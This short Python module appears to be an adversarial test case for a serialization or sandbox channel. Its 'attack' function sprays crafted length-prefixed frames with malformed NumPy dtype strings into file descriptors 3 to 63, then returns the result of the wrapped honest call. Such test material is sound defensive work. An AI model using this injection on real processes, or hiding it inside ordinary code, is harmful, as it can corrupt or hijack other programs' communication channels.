"""Sends an array whose kind is a comma, which NumPy takes for a list of kinds and evaluates."""

import contextlib
import os
import struct


def attack(honest, *args, **kwargs):
    heads = [f'{{"array": "{name}", "shape": [1]}}' for name in (",", "f4,", "(,)f4", "O", "[(")]
    for head in heads:
        head = b'{"dict": [[{"plain": "result"}, ' + head.encode() + b"]]}"
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<QI", len(head) + 4, len(head)) + head)
    return honest(*args, **kwargs)
